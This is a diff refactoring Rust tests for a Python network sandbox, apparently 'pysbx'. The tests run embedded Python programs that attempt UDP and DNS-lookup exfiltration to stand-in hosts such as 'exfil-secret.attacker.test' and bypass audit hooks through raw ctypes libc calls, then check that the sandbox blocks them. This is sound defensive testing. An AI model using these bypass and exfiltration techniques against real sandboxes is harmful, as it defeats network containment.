@@ -27,6 +27,26 @@ fn tcp_host(addr: &str, port: u16) -> Option<mpsc::Receiver<String>> {
     Some(rx)
 }
 
+/// Runs `main` under policy `p` without the static gate, recording events in `events`.
+fn exec_with_events(
+    s: &Scratch,
+    p: &std::path::Path,
+    events: &std::path::Path,
+    main: &std::path::Path,
+    args: &[String],
+) -> std::process::Output {
+    run(s
+        .exec()
+        .arg("--no-gate")
+        .arg("--policy")
+        .arg(p)
+        .arg("--events")
+        .arg(events)
+        .arg(main)
+        .arg("--")
+        .args(args))
+}
+
 /// A UDP socket that passes on each datagram and answers `pong` to its sender.
 fn udp_host(addr: &str) -> (u16, mpsc::Receiver<String>) {
     let sock = UdpSocket::bind((addr, 0)).expect("bind udp");
@@ -68,10 +88,10 @@ fn policy(s: &Scratch, port: u16, udp_port: u16, ffi: bool) -> std::path::PathBu
     )
 }
 
-const THROUGH_THE_GUARD: &str = r#"import socket, sys
-port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
+/// Client functions through the guard: each says what happened to one connection or datagram.
+const GUARD_CLIENT: &str = r#"import socket, sys
 
-def tcp(host):
+def tcp(host, port):
     try:
         with socket.create_connection((host, port), timeout=5) as s:
             s.sendall(("hello " + host).encode())
@@ -81,23 +101,71 @@ def tcp(host):
     except OSError as e:
         return "error " + type(e).__name__
 
-def udp(host, p):
+def udp(host, port):
     try:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
             s.settimeout(5)
-            s.sendto(b"ping " + host.encode(), (host, p))
+            s.sendto(b"ping " + host.encode(), (host, port))
             return "ok " + s.recv(4).decode()
     except PermissionError:
         return "refused"
     except OSError as e:
         return "error " + type(e).__name__
+"#;
 
-print("allowed name", tcp("api.test"))
-print("allowed address", tcp("127.0.0.2"))
-print("other name", tcp("other.test"))
-print("other address", tcp("127.0.0.3"))
-print("loopback name", tcp("localhost"))
-print("unknown name", tcp("exfil-secret.attacker.test"))
+/// Client functions around the guard: `ctypes` calls the C library's `connect`, `sendto` and
+/// `getaddrinfo` directly, which no audit hook sees.
+const RAW_CLIENT: &str = r#"import ctypes, errno, socket, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+
+def sockaddr(ip, p):
+    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
+
+def why():
+    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
+
+def tcp(ip, port):
+    s = socket.socket()
+    addr = sockaddr(ip, port)
+    if libc.connect(s.fileno(), addr, len(addr)) != 0:
+        return "refused " + why()
+    data = b"raw " + ip.encode()
+    libc.send(s.fileno(), data, len(data), 0)
+    buf = ctypes.create_string_buffer(8)
+    n = libc.recv(s.fileno(), buf, 8, 0)
+    return ("ok " + buf.raw[:n].decode()) if n > 0 else "closed"
+
+def udp(ip, p, data):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    addr = sockaddr(ip, p)
+    n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
+    return "sent" if n == len(data) else "refused " + why()
+
+class AddrInfo(ctypes.Structure):
+    pass
+AddrInfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
+                     ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32),
+                     ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
+                     ("next", ctypes.POINTER(AddrInfo))]
+
+def lookup(name):
+    res = ctypes.POINTER(AddrInfo)()
+    rc = libc.getaddrinfo(name.encode(), None, None, ctypes.byref(res))
+    return "answered" if rc == 0 else "no answer"
+"#;
+
+/// A program: the client functions, then what it does with them.
+fn program(client: &str, body: &str) -> String {
+    format!("{client}\n{body}")
+}
+
+const THROUGH_THE_GUARD: &str = r#"port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
+print("allowed name", tcp("api.test", port))
+print("allowed address", tcp("127.0.0.2", port))
+print("other name", tcp("other.test", port))
+print("other address", tcp("127.0.0.3", port))
+print("loopback name", tcp("localhost", port))
+print("unknown name", tcp("exfil-secret.attacker.test", port))
 print("allowed udp", udp("dns.test", udp_port))
 print("other udp", udp("127.0.0.3", other_udp))
 "#;
@@ -109,18 +177,15 @@ fn only_pinned_destinations_are_reached() {
     let (other_udp, udp_three) = udp_host("127.0.0.3");
     let s = Scratch::new();
     let p = policy(&s, port, udp_port, false);
-    let main = s.write("main.py", THROUGH_THE_GUARD);
+    let main = s.write("main.py", &program(GUARD_CLIENT, THROUGH_THE_GUARD));
     let events = s.path().join("events.jsonl");
-    let out = run(s
-        .exec()
-        .arg("--no-gate")
-        .arg("--policy")
-        .arg(&p)
-        .arg("--events")
-        .arg(&events)
-        .arg(&main)
-        .arg("--")
-        .args([port.to_string(), udp_port.to_string(), other_udp.to_string()]));
+    let out = exec_with_events(
+        &s,
+        &p,
+        &events,
+        &main,
+        &[port.to_string(), udp_port.to_string(), other_udp.to_string()],
+    );
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert_eq!(
         stdout(&out),
@@ -154,48 +219,10 @@ fn only_pinned_destinations_are_reached() {
 /// The same destinations with the guard out of the way: `ctypes` calls the C library's
 /// `connect`, `sendto` and `getaddrinfo` directly, which no audit hook sees. Only the kernel
 /// and the relay stand between the program and the hosts.
-const AROUND_THE_GUARD: &str = r#"import ctypes, errno, socket, struct, sys
-port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
-libc = ctypes.CDLL(None, use_errno=True)
-
-def sockaddr(ip, p):
-    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
-
-def why():
-    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
-
-def tcp(ip):
-    s = socket.socket()
-    addr = sockaddr(ip, port)
-    if libc.connect(s.fileno(), addr, len(addr)) != 0:
-        return "refused " + why()
-    data = b"raw " + ip.encode()
-    libc.send(s.fileno(), data, len(data), 0)
-    buf = ctypes.create_string_buffer(8)
-    n = libc.recv(s.fileno(), buf, 8, 0)
-    return ("ok " + buf.raw[:n].decode()) if n > 0 else "closed"
-
-def udp(ip, p, data):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    addr = sockaddr(ip, p)
-    n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
-    return "sent" if n == len(data) else "refused " + why()
-
-class AddrInfo(ctypes.Structure):
-    pass
-AddrInfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
-                     ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32),
-                     ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
-                     ("next", ctypes.POINTER(AddrInfo))]
-
-def lookup(name):
-    res = ctypes.POINTER(AddrInfo)()
-    rc = libc.getaddrinfo(name.encode(), None, None, ctypes.byref(res))
-    return "answered" if rc == 0 else "no answer"
-
-print("allowed", tcp("127.0.0.2"))
-print("other", tcp("127.0.0.3"))
-print("loopback", tcp("127.0.0.1"))
+const AROUND_THE_GUARD: &str = r#"port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
+print("allowed", tcp("127.0.0.2", port))
+print("other", tcp("127.0.0.3", port))
+print("loopback", tcp("127.0.0.1", port))
 print("udp to another host", udp("127.0.0.3", other_udp, b"exfil udp"))
 print("udp to another port of the allowed host", udp("127.0.0.2", other_udp, b"exfil port"))
 print("dns exfiltration", lookup("exfil-secret.attacker.test"))
@@ -208,7 +235,7 @@ fn the_kernel_holds_without_the_guard() {
     let (other_udp, udp_three) = udp_host("127.0.0.3");
     let s = Scratch::new();
     let p = policy(&s, port, udp_port, true);
-    let main = s.write("main.py", AROUND_THE_GUARD);
+    let main = s.write("main.py", &program(RAW_CLIENT, AROUND_THE_GUARD));
     let out = run(s.exec().arg("--no-gate").arg("--policy").arg(&p).arg(&main).arg("--").args([
         port.to_string(),
         udp_port.to_string(),
@@ -261,7 +288,7 @@ fn the_relay_works_without_root() {
     let (other_udp, _udp_three) = udp_host("127.0.0.3");
     let s = Scratch::new();
     let p = policy(&s, port, udp_port, false);
-    let main = s.write("main.py", THROUGH_THE_GUARD);
+    let main = s.write("main.py", &program(GUARD_CLIENT, THROUGH_THE_GUARD));
     let out = std::process::Command::new(env!("CARGO_BIN_EXE_pysbx"))
         .current_dir(s.path())
         .env_clear()
@@ -432,38 +459,15 @@ fn wildcard_policy(
     )
 }
 
-const WILDCARD_THROUGH_THE_GUARD: &str = r#"import socket, sys
-port, udp_port = int(sys.argv[1]), int(sys.argv[2])
-
-def tcp(host):
-    try:
-        with socket.create_connection((host, port), timeout=5) as s:
-            s.sendall(("hello " + host).encode())
-            return "ok " + s.recv(4).decode()
-    except PermissionError:
-        return "refused"
-    except OSError as e:
-        return "error " + type(e).__name__
-
-def udp(host):
-    try:
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-            s.settimeout(5)
-            s.sendto(b"ping " + host.encode(), (host, udp_port))
-            return "ok " + s.recv(4).decode()
-    except PermissionError:
-        return "refused"
-    except OSError as e:
-        return "error " + type(e).__name__
-
-print("name under the wildcard", tcp("a.wild.test"))
-print("its address", tcp("127.0.0.2"))
-print("another address", tcp("127.0.0.3"))
-print("name answered in a private range", tcp("inner.wild.test"))
-print("the suffix itself", tcp("wild.test"))
-print("name outside the wildcard", tcp("exfil.attacker.test"))
-print("udp to a name under the wildcard", udp("u.wild.test"))
-print("udp to another address", udp("127.0.0.3"))
+const WILDCARD_THROUGH_THE_GUARD: &str = r#"port, udp_port = int(sys.argv[1]), int(sys.argv[2])
+print("name under the wildcard", tcp("a.wild.test", port))
+print("its address", tcp("127.0.0.2", port))
+print("another address", tcp("127.0.0.3", port))
+print("name answered in a private range", tcp("inner.wild.test", port))
+print("the suffix itself", tcp("wild.test", port))
+print("name outside the wildcard", tcp("exfil.attacker.test", port))
+print("udp to a name under the wildcard", udp("u.wild.test", udp_port))
+print("udp to another address", udp("127.0.0.3", udp_port))
 "#;
 
 #[test]
@@ -473,18 +477,9 @@ fn wildcard_names_are_resolved_by_pysbx_during_the_run() {
     let (dns_port, asked) = upstream_dns(WILDCARD_ZONE);
     let s = Scratch::new();
     let p = wildcard_policy(&s, port, udp_port, dns_port, false);
-    let main = s.write("main.py", WILDCARD_THROUGH_THE_GUARD);
+    let main = s.write("main.py", &program(GUARD_CLIENT, WILDCARD_THROUGH_THE_GUARD));
     let events = s.path().join("events.jsonl");
-    let out = run(s
-        .exec()
-        .arg("--no-gate")
-        .arg("--policy")
-        .arg(&p)
-        .arg("--events")
-        .arg(&events)
-        .arg(&main)
-        .arg("--")
-        .args([port.to_string(), udp_port.to_string()]));
+    let out = exec_with_events(&s, &p, &events, &main, &[port.to_string(), udp_port.to_string()]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert_eq!(
         stdout(&out),
@@ -532,64 +527,23 @@ fn wildcard_names_hold_without_the_guard() {
     let p = wildcard_policy(&s, port, udp_port, dns_port, true);
     let main = s.write(
         "main.py",
-        r#"import ctypes, socket, struct, sys
-port, udp_port = int(sys.argv[1]), int(sys.argv[2])
-libc = ctypes.CDLL(None, use_errno=True)
-
-def sockaddr(ip, p):
-    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
-
-def udp(ip, data):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    addr = sockaddr(ip, udp_port)
-    n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
-    return "sent" if n == len(data) else "not sent"
-
-def tcp(ip):
-    s = socket.socket()
-    addr = sockaddr(ip, port)
-    if libc.connect(s.fileno(), addr, len(addr)) != 0:
-        return "refused"
-    data = b"raw " + ip.encode()
-    libc.send(s.fileno(), data, len(data), 0)
-    buf = ctypes.create_string_buffer(8)
-    n = libc.recv(s.fileno(), buf, 8, 0)
-    return ("ok " + buf.raw[:n].decode()) if n > 0 else "closed"
-
-class AddrInfo(ctypes.Structure):
-    pass
-AddrInfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
-                     ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32),
-                     ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
-                     ("next", ctypes.POINTER(AddrInfo))]
-
-def lookup(name):
-    res = ctypes.POINTER(AddrInfo)()
-    rc = libc.getaddrinfo(name.encode(), None, None, ctypes.byref(res))
-    return "answered" if rc == 0 else "no answer"
-
-print("address before any lookup", tcp("127.0.0.2"))
-print("udp before any lookup", udp("127.0.0.2", b"early"))
+        &program(
+            RAW_CLIENT,
+            r#"port, udp_port = int(sys.argv[1]), int(sys.argv[2])
+print("address before any lookup", tcp("127.0.0.2", port))
+print("udp before any lookup", udp("127.0.0.2", udp_port, b"early"))
 print("exfiltration by lookup", lookup("exfil.attacker.test"))
 print("name under the wildcard", lookup("c.wild.test"))
-print("its address after the lookup", tcp("127.0.0.2"))
-print("another address", tcp("127.0.0.3"))
+print("its address after the lookup", tcp("127.0.0.2", port))
+print("another address", tcp("127.0.0.3", port))
 print("udp name under the wildcard", lookup("u.wild.test"))
-print("udp after the lookup", udp("127.0.0.2", b"late"))
-print("udp to another address", udp("127.0.0.3", b"exfil"))
+print("udp after the lookup", udp("127.0.0.2", udp_port, b"late"))
+print("udp to another address", udp("127.0.0.3", udp_port, b"exfil"))
 "#,
+        ),
     );
     let events = s.path().join("events.jsonl");
-    let out = run(s
-        .exec()
-        .arg("--no-gate")
-        .arg("--policy")
-        .arg(&p)
-        .arg("--events")
-        .arg(&events)
-        .arg(&main)
-        .arg("--")
-        .args([port.to_string(), udp_port.to_string()]));
+    let out = exec_with_events(&s, &p, &events, &main, &[port.to_string(), udp_port.to_string()]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert_eq!(
         stdout(&out),
@@ -629,7 +583,7 @@ fn wildcard_names_work_without_root() {
     let (dns_port, _asked) = upstream_dns(WILDCARD_ZONE);
     let s = Scratch::new();
     let p = wildcard_policy(&s, port, udp_port, dns_port, false);
-    let main = s.write("main.py", WILDCARD_THROUGH_THE_GUARD);
+    let main = s.write("main.py", &program(GUARD_CLIENT, WILDCARD_THROUGH_THE_GUARD));
     let out = std::process::Command::new(env!("CARGO_BIN_EXE_pysbx"))
         .current_dir(s.path())
         .env_clear()
